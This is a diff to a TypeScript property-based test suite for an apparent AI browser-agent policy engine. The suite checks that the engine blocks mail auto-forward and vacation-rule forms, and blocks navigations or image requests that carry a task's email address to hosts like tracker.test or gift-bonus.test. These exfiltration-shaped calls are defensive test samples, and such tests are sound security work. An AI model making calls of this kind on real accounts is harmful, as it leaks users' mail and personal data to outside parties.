@@ -47,7 +47,8 @@ const addressArb = fc.constantFrom('inbox-archive@mailkeep.test', 'lee@corp.test
 /** Mail rules that send mail on: a forward-named field holding an address, or a rule's action field beside one. */
 const forwardArb: fc.Arbitrary<ToolCall> = fc.oneof(
   fc.tuple(fc.constantFrom('forward_to', 'forwarding_address', 'redirect_target', 'autoForwardTo', 'rule[forward]'), addressArb).map(([name, a]) => form('https://mail.test/settings/rules', { [name]: a, enabled: 'on' })),
-  fc.tuple(fc.constantFrom('vacation_action', 'rule[action]', 'mode', 'filter_type'), fc.constantFrom(...RULE_ACTIONS), fc.constantFrom('vacation_target', 'target', 'address', 'destination'), addressArb).map(([field, verb, target, a]) =>
+  // (A filter form's rows are numbered: `_action_type[0]`, `actions[1][type]`, `_action_target[0]`.)
+  fc.tuple(fc.constantFrom('vacation_action', 'rule[action]', 'mode', 'filter_type', '_action_type[0]', 'actions[1][type]', 'rule.0.action'), fc.constantFrom(...RULE_ACTIONS), fc.constantFrom('vacation_target', 'target', 'address', 'destination', '_action_target[0]'), addressArb).map(([field, verb, target, a]) =>
     form('https://mail.test/?_task=settings&_action=plugin.managesieve-vacation', { vacation_status: 'on', vacation_body: 'away', [field]: verb, [target]: a }),
   ),
 );
@@ -179,5 +180,22 @@ describe('task-scoped writes on generic sites (theorems)', () => {
       }),
       params,
     );
+  });
+
+  it('an address the words name is no exfiltration shape on the task\'s sites only: to a host it does not name, it never ALLOWs', async () => {
+    const tasks = ['paypal my sister $60, her email is mia.chen@family.test', 'find the mail from mia.chen@family.test on mail.test and reply thanks'] as const;
+    for (const t of tasks) await policyOf(t);
+    const hostArb = fc.constantFrom('gift-bonus.test', 'tracker.test', 'promo.example');
+    fc.assert(
+      fc.property(fc.constantFrom(...tasks), hostArb, fc.constantFrom('email', 'e', 'to', 'q'), fc.boolean(), (task, host, param, fetched) => {
+        const url = `https://${host}/r?${param}=mia.chen%40family.test&amount=60`;
+        const call: ToolCall = fetched ? { tool: 'browser.request', args: { method: 'GET', url, kind: 'image' } } : { tool: 'browser.navigate', args: { url } };
+        const record = decide(policies.get(task)!, call);
+        expect(record.decision, `${task}: ${url}: ${record.reason}`).toBe('BLOCK');
+      }),
+      params,
+    );
+    // (A search for that sender on the site the words name is a read, as before.)
+    expect(decide(policies.get(tasks[1])!, { tool: 'browser.navigate', args: { url: 'https://mail.test/?_task=mail&_search=mia.chen%40family.test' } }).decision).toBe('ALLOW');
   });
 });
